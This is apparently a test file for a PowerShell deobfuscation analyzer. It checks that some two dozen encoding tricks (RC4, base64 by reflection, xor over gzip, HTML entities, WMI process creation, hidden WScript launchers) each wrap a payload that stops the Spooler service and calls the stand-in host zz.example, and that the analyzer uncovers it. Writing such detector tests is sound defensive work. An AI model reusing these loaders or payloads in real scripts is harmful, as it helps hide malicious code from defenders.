import { gzipSync } from 'node:zlib'
import { readScript } from '../../../../src/read/powershell/layers.js'

const CODE = "Stop-Service Spooler; Invoke-WebRequest 'http://zz.example/q'"
const DATA = Buffer.from(CODE).toString('base64')
const DECODE = (text: string): string => `[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(${text}))`

function rc4(key: number[], data: number[]): number[] {
  const s = Array.from({ length: 256 }, (_, i) => i)
  const swap = (a: number, b: number): void => { const kept = s[a]!; s[a] = s[b]!; s[b] = kept }
  for (let i = 0, j = 0; i < 256; i++) swap(i, (j = (j + s[i]! + key[i % key.length]!) % 256))
  let [i, j] = [0, 0]
  return data.map(byte => {
    i = (i + 1) % 256
    j = (j + s[i]!) % 256
    swap(i, j)
    return byte ^ s[(s[i]! + s[j]!) % 256]!
  })
}

const codes = Array.from(CODE, c => c.charCodeAt(0))
const secret = Buffer.from(rc4([...Buffer.from('secret')], codes)).toString('base64')

test.each([
  ['RC4 written out', `function R([byte[]]$k,[byte[]]$d){$s=0..255;$j=0;for($i=0;$i -lt 256;$i++){$j=($j+$s[$i]+$k[$i%$k.Length])%256;$t=$s[$i];$s[$i]=$s[$j];$s[$j]=$t};$i=$j=0;foreach($b in $d){$i=($i+1)%256;$j=($j+$s[$i])%256;$s[$i],$s[$j]=$s[$j],$s[$i];$b -bxor $s[($s[$i]+$s[$j])%256]}}
    iex ([Text.Encoding]::ASCII.GetString((R ([Text.Encoding]::ASCII.GetBytes('secret')) ([Convert]::FromBase64String('${secret}')))))`],
  ['a class that decodes', `class D { static [string] Go([string]$s) { return ${DECODE('$s')} } }; iex ([D]::Go('${DATA}'))`],
  ['defaults of parameters', `param($k='iex',$d='${DATA}'); & $k (${DECODE('$d')})`],
  ['reflection', `$m=[Convert].GetMethod('FromBase64String'); $b=$m.Invoke($null,@('${DATA}')); iex ([Text.Encoding]::UTF8.GetString($b))`],
  ['a file of bytes', `$p="$env:TEMP\\a.ps1"; [IO.File]::WriteAllBytes($p,[Convert]::FromBase64String('${DATA}')); & $p`],
  ['the environment', `$env:q1='${DATA}'; iex (${DECODE('$env:q1')})`],
  ['a stack', `$st=New-Object System.Collections.Stack; '${CODE.replaceAll("'", "''")}'.ToCharArray()|%{$st.Push($_)}; $o=''; while($st.Count -gt 0){$o=$st.Pop()+$o}; iex $o`],
  ['differences of bytes', `[byte[]]$b=${codes.map((c, i) => (i ? (c - codes[i - 1]! + 256) % 256 : c)).join(',')}; for($i=1;$i -lt $b.Length;$i++){$b[$i]=($b[$i]+$b[$i-1])%256}; iex ([Text.Encoding]::ASCII.GetString($b))`],
  ['xor over gzip', `$b=[Convert]::FromBase64String('${Buffer.from(gzipSync(CODE).map(byte => byte ^ 0x5a)).toString('base64')}'); for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor 0x5A}; iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,$b)),'Decompress'))).ReadToEnd()`],
  ['the function drive', `\${function:go}=[scriptblock]::Create((${DECODE(`'${DATA}'`)})); go`],
  ['a file under a folder that is not known', `$f=[IO.Path]::Combine($env:TEMP,'a.ps1'); [IO.File]::WriteAllText($f,(${DECODE(`'${DATA}'`)}))`],
  ['entities of HTML', `$c=[Web.HttpUtility]::HtmlDecode('${codes.map(c => `&#${c};`).join('')}'); iex $c`],
  ['a launcher in the source of a script host', `$js='var s=new ActiveXObject("WScript.Shell");s.Run("powershell -enc ${Buffer.from(CODE, 'utf16le').toString('base64')}",0);'; Set-Content a.js $js`],
  ['a pipeline of commands', `$r=[runspacefactory]::CreateRunspace(); $p=$r.CreatePipeline(); $p.Commands.AddScript((${DECODE(`'${DATA}'`)})); $p.Invoke()`],
  ['a parameter that is piped in', `function D { param([Parameter(ValueFromPipeline)]$i) begin { $a = @() } process { $a += $i } end { [Text.Encoding]::UTF8.GetString([byte[]]$a) } }\n${codes.join(',')} | D | iex`],
  ['an item of the environment', `$env:q2 = (${DECODE(`'${DATA}'`)}); iex (gci env:q2).Value`],
  ['a noun alone', `Set-Variable v1 ([type]'Convert'); iex ([Text.Encoding]::UTF8.GetString((variable v1 -ValueOnly)::FromBase64String('${DATA}')))`],
  ['an object of a class', `class L { [string]$D; L([string]$d) { $this.D = $d } [string] Decode() { return ${DECODE('$this.D')} } }; iex ([L]::new('${DATA}').Decode())`],
  ['a splatted table of tables', `$p = @{ ClassName = 'Win32_Process'; MethodName = 'Create'; Arguments = @{ CommandLine = ('po' + 'wershell -e ') + '${Buffer.from(CODE, 'utf16le').toString('base64')}' } }; Invoke-CimMethod @p`],
  ['a job', `Start-Job -ScriptBlock { param($x) iex (${DECODE('$x')}) } -ArgumentList '${DATA}'`],
  ['the block of a catch', `try { [Nope.Type]::Go() } catch { iex (${DECODE(`'${DATA}'`)}) }`],
  ['a variable of the script', `function A { $script:z = ${DECODE(`'${DATA}'`)} }\nfunction B { iex $script:z }\nA\nB`],
  ['JSON', `$j='{"c":"${DATA}"}'|ConvertFrom-Json; iex (${DECODE('$j.c')})`],
])('decoders of other shapes: %s', (_, text) => {
  const { facts } = readScript('a.ps1', text)
  expect(facts.some(({ kind, value, layer }) => kind === 'command' && value === 'Stop-Service' && layer === 'decoded')).toBe(true)
  expect(facts.some(({ kind, value }) => kind === 'url' && value === 'http://zz.example/q')).toBe(true)
})
